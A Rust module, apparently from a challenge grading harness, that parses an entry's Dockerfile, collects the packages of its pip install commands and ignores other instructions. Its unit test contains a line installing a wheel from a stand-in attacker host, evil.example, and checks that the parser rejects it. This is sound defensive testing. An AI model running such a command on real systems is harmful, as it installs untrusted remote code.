//! What the judge takes from an entry's `Dockerfile` (the PhysioNet 2022 example ships
//! one): the packages of its `pip install` commands, read like requirement lines with
//! the Dockerfile's line numbers. Nothing of it runs; every other instruction is noted
//! as ignored, since the judge runs the entry its own way. The base image (`FROM`) is
//! the runtime's choice, not read here.

use super::parse::{Requirement, parse_requirements, quote};

/// What a Dockerfile gave.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct DockerReading {
    pub reqs: Vec<Requirement>,
    /// What was not taken, for prep.log and the warnings.
    pub notes: Vec<String>,
    /// Requirement words refused as a requirements file's would be.
    pub problems: Vec<String>,
}

/// pip options that take a value (the value is skipped with them).
const WITH_VALUE: [&str; 10] = [
    "-r",
    "--requirement",
    "-c",
    "--constraint",
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
    "--trusted-host",
];

/// Instructions whose lines are joined, as Docker does, and numbered by their first.
fn instructions(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (i, raw) in text.lines().enumerate().take(10_000) {
        let t = raw.trim();
        if pending.is_none() && (t.is_empty() || t.starts_with('#')) {
            continue;
        }
        let (start, mut acc) = pending.take().unwrap_or((i + 1, String::new()));
        match t.strip_suffix('\\') {
            Some(part) if acc.len() < 10_000 => {
                acc.push_str(part);
                acc.push(' ');
                pending = Some((start, acc));
            }
            _ => {
                acc.push_str(t);
                out.push((start, acc));
            }
        }
    }
    out.extend(pending);
    out
}

/// Reads a Dockerfile's text; `file` names it in messages.
pub fn read_dockerfile(file: &str, text: &str) -> DockerReading {
    let mut r = DockerReading::default();
    let mut ignored: Vec<String> = Vec::new();
    for (line, instr) in instructions(text) {
        let word = instr
            .split_whitespace()
            .next()
            .unwrap_or("")
            .to_ascii_uppercase();
        match word.as_str() {
            "FROM" => {}
            "RUN" => {
                let cmd = instr[3..].trim();
                let mut found = false;
                for part in cmd.split(['&', ';', '|']) {
                    let words: Vec<String> = part
                        .split_whitespace()
                        .map(|w| w.trim_matches(['"', '\'']).to_string())
                        .collect();
                    let Some(at) = pip_install(&words) else {
                        continue;
                    };
                    found = true;
                    let mut args = words[at..].iter();
                    while let Some(a) = args.next() {
                        if a.starts_with('-') {
                            if WITH_VALUE.contains(&a.as_str()) {
                                let v = args.next().map(String::as_str).unwrap_or_default();
                                // The requirements file itself is what the judge reads.
                                if v == "requirements.txt" {
                                    continue;
                                }
                                r.notes.push(format!(
                                    "{file}: line {line}: pip's {a} {v} is not taken (the \
                                     judge reads the challenge's requirements file and uses its \
                                     own index)"
                                ));
                            }
                            continue;
                        }
                        match parse_requirements(file, a) {
                            Ok(mut reqs) => {
                                // Upgrading the installer is no package of the entry's.
                                reqs.retain(|q| {
                                    !["pip", "setuptools", "wheel"]
                                        .contains(&runtime::normalise(&q.name).as_str())
                                });
                                for q in &mut reqs {
                                    q.line = line;
                                }
                                r.reqs.extend(reqs);
                            }
                            Err(p) => r.problems.extend(p.into_iter().map(|p| {
                                p.replacen(
                                    &format!("{file}: line 1: "),
                                    &format!("{file}: line {line}: "),
                                    1,
                                )
                            })),
                        }
                    }
                }
                if !found {
                    ignored.push(format!("{line} ({})", quote(cmd)));
                }
            }
            _ => ignored.push(format!("{line} ({word})")),
        }
    }
    if !ignored.is_empty() {
        r.notes.push(format!(
            "{file}: line(s) {} ignored: the judge runs the entry its own way, and takes only \
             the packages of pip install commands",
            ignored.join(", ")
        ));
    }
    r
}

/// Where the arguments of a `pip install` start in a command's words, if it is one.
fn pip_install(words: &[String]) -> Option<usize> {
    let pip = words.iter().position(|w| {
        let base = w.rsplit('/').next().unwrap_or(w);
        matches!(base, "pip" | "pip3") || base.starts_with("pip3.")
    });
    let at = match pip {
        Some(i) => i + 1,
        None => {
            // python -m pip
            let m = words
                .windows(2)
                .position(|w| w[0] == "-m" && w[1] == "pip")?;
            m + 2
        }
    };
    (words.get(at).map(String::as_str) == Some("install")).then_some(at + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pip_install_lines_are_read_and_the_rest_noted() {
        let text = "FROM python:3.10.1-buster\n\n# comment\nRUN mkdir /challenge\n\
                    COPY ./ /challenge\nWORKDIR /challenge\n\
                    RUN pip install --upgrade pip && pip install -r requirements.txt -r extra.txt\n\
                    RUN python3 -m pip install --no-cache-dir tqdm==4.66.1 \\\n    'sklearn'\n\
                    RUN pip install https://evil.example/x.whl\n";
        let r = read_dockerfile("Dockerfile", text);
        let reqs: Vec<(usize, String)> = r.reqs.iter().map(|q| (q.line, q.pip_line())).collect();
        assert_eq!(
            reqs,
            [(8, "tqdm==4.66.1".to_string()), (8, "sklearn".to_string())]
        );
        assert_eq!(r.problems.len(), 1);
        assert!(
            r.problems[0].starts_with("Dockerfile: line 10: "),
            "{:?}",
            r.problems
        );
        assert!(r.notes[0].contains("line 7: pip's -r extra.txt is not taken"));
        assert!(
            r.notes[1].starts_with(
                "Dockerfile: line(s) 4 (\"mkdir /challenge\"), 5 (COPY), 6 (WORKDIR) ignored"
            ),
            "{:?}",
            r.notes
        );
    }
}
